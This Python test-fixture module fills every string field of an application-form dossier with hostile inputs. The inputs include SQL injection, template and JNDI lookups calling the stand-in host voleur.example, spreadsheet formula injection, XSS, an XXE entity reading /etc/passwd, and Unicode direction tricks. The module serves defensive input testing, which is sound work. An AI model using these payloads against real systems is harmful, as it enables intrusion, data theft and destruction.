"""Texts that some reader takes for more than text, put wherever the form lets somebody write."""

import json
from collections.abc import Callable, Iterator
from typing import Any, Final, cast

from pydantic_core import to_json

from app.corpus.dossiers import dossier_integral
from app.corpus.instance import Json
from app.formulaire.description import formulaire_decrit

HOSTILES: Final = {
    "sql": "'; DROP TABLE candidature; --",
    "sql_echappe": "\\' OR 1=1 --",
    "sql_dollars": '$$ || pg_sleep(9) || $$ :id %(id)s {dossier} "a"."b"',
    "typst_import": '#import "x": *',
    "typst_lecture": '#read("/etc/passwd")',
    "typst_balises": "*gras* _italique_ [] <a> @b $x$ \\u{41} `code` // /* */ = Titre",
    "gabarit": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "jndi": "${jndi:ldap://voleur.example/a}",
    "formats": "%s%n%x {0} {self.__class__} %00 %0d%0a",
    "formule": "=cmd|' /C calc'!A0",
    "formule_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formule_lien": '+HYPERLINK("http://voleur.example","ici")',
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>&amp;",
    "xml": "]]><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "json": '","etat":"deposee","role":"administration',
    "pointeur": "/~0~1/../$ref#/definitions",
    "sens_inverse": "releve\u202efdp.exe\u2066\u2069\u200f",
    "accents_seuls": "\u0301\u0489\u0338" * 20,
    "emojis": "👩\u200d👩\u200d👧\u200d👦" * 28,
    "commandes": "a\x01\x07\x08\x1b[2J\x7f\x85b",
    "hors_plan": "\U0010ffff\ufffe\ufdd0\U000e0041",
}
"""None longer than the shortest field, none with NUL, which PostgreSQL cannot hold; each on one
line, and none that the form's own clean-up would change.
"""

COURRIEL: Final = "o'--#{{7*7}}$x|`%s*=@example.fr"
"""An address of RFC 5322 that is all of it."""

TELEPHONE: Final = "02 35 12 34 56"

# What a deposit takes as it is written.
_LIBRES: Final = frozenset({"texte_court", "texte_long", "dix_lignes"})
# What is not written, but chosen, joined or counted.
_AUTRES: Final = frozenset({"oui_non", "montant", "liste", "groupe", "fichiers"})


def champs() -> dict[str, str]:
    """Every field that holds a string: its place (`/perimetre/epci/*/nom`) and its kind."""
    decrit = json.loads(to_json(formulaire_decrit()))
    return dict(_champs([champ for section in decrit["sections"] for champ in section["champs"]]))


def _champs(decrits: list[Json]) -> Iterator[tuple[str, str]]:
    for champ in decrits:
        if champ["genre"] not in _AUTRES:
            yield champ["pointeur"], champ["genre"]
        yield from _champs(champ["champs"] or [])


def partout(texte: str) -> tuple[Json, set[str]]:
    """A whole dossier with this text in every field that holds a string; the fields filled."""
    return _remplir(lambda genre: texte)


def deposable(texte: str) -> tuple[Json, set[str]]:
    """One that can be deposited: this text in every free field, an address as bad in the others."""

    def choisir(genre: str) -> str | None:
        return texte if genre in _LIBRES else COURRIEL if genre == "courriel" else None

    dossier, remplis = _remplir(choisir)
    dossier["gouvernance"]["membres"][0]["prenom"] = "Jeanne"  # not the same person as the other
    return dossier, remplis


def _remplir(choisir: Callable[[str], str | None]) -> tuple[Json, set[str]]:
    genres, remplis = champs(), set[str]()

    def remplir(valeur: Any, lieu: str) -> Any:
        if isinstance(valeur, dict):
            membres = cast(Json, valeur).items()
            return {nom: remplir(membre, f"{lieu}/{nom}") for nom, membre in membres}
        if isinstance(valeur, list):
            return [remplir(element, f"{lieu}/*") for element in cast(list[Any], valeur)]
        if lieu not in genres or (texte := choisir(genres[lieu])) is None:
            return valeur
        remplis.add(lieu)
        return texte

    return remplir(dossier_integral(), ""), remplis
